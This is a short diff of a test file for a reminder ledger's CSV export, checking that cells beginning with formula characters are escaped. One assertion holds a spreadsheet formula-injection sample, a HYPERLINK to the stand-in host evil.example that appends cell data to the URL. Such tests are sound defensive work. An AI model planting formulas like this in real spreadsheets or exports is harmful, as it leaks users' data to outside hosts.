@@ -84,7 +84,7 @@ describe('thidua remind ledger', () => {
     await t.tickAt('2026-12-08 08:00');
     await a.press('rem:done:t-ack');
     const text = (await ledgerCsv(t.reminders, 2026)).csv.toString('utf8');
-    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Xem"") (console:a)",`);
+    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Xem"")",`);
     expect(text).not.toMatch(/(^|,)"?[=+\-@]/m);
 
     const cells = toCsv(['a'], [['+1'], ['-1+2'], ['@SUM(A1)'], ['\tx'], ['\rx'], [-5], ['ok = fine']]).toString('utf8').slice(1).split('\r\n');
